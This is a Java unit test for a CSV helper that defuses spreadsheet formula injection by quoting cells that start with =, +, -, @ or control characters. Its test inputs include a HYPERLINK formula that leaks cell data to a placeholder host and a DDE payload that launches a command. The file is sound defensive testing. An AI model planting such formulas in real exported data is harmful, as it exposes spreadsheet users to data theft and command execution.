package org.phare.core.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvCellsTest {

  @Test
  void cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote() {
    assertThat(CsvCells.neutralise("=HYPERLINK(\"http://x/?d=\"&A1,\"Cliquez\")"))
        .isEqualTo("'=HYPERLINK(\"http://x/?d=\"&A1,\"Cliquez\")");
    assertThat(CsvCells.neutralise("+33 2 38 12 34 56")).isEqualTo("'+33 2 38 12 34 56");
    assertThat(CsvCells.neutralise("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
    assertThat(CsvCells.neutralise("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
    assertThat(CsvCells.neutralise("\t=1")).isEqualTo("'\t=1");
    assertThat(CsvCells.neutralise("\r=1")).isEqualTo("'\r=1");
  }

  @Test
  void plain_numbers_and_ordinary_texts_are_left_alone() {
    assertThat(CsvCells.neutralise("-3")).isEqualTo("-3");
    assertThat(CsvCells.neutralise("+1.5e3")).isEqualTo("+1.5e3");
    assertThat(CsvCells.neutralise("-0,25")).isEqualTo("-0,25");
    assertThat(CsvCells.neutralise("Entraide = solidarité")).isEqualTo("Entraide = solidarité");
    assertThat(CsvCells.neutralise("")).isEmpty();
    assertThat(CsvCells.neutralise((String) null)).isEmpty();
  }

  @Test
  void restore_undoes_neutralise_only() {
    assertThat(CsvCells.restore("'=A1")).isEqualTo("=A1");
    assertThat(CsvCells.restore("'@x")).isEqualTo("@x");
    assertThat(CsvCells.restore("'quoted'")).isEqualTo("'quoted'");
    assertThat(CsvCells.restore("l'entraide")).isEqualTo("l'entraide");
    for (String text : new String[] {"=1+1", "+33", "-x", "@a", "plain", "-3"}) {
      assertThat(CsvCells.restore(CsvCells.neutralise(text))).isEqualTo(text);
    }
  }
}
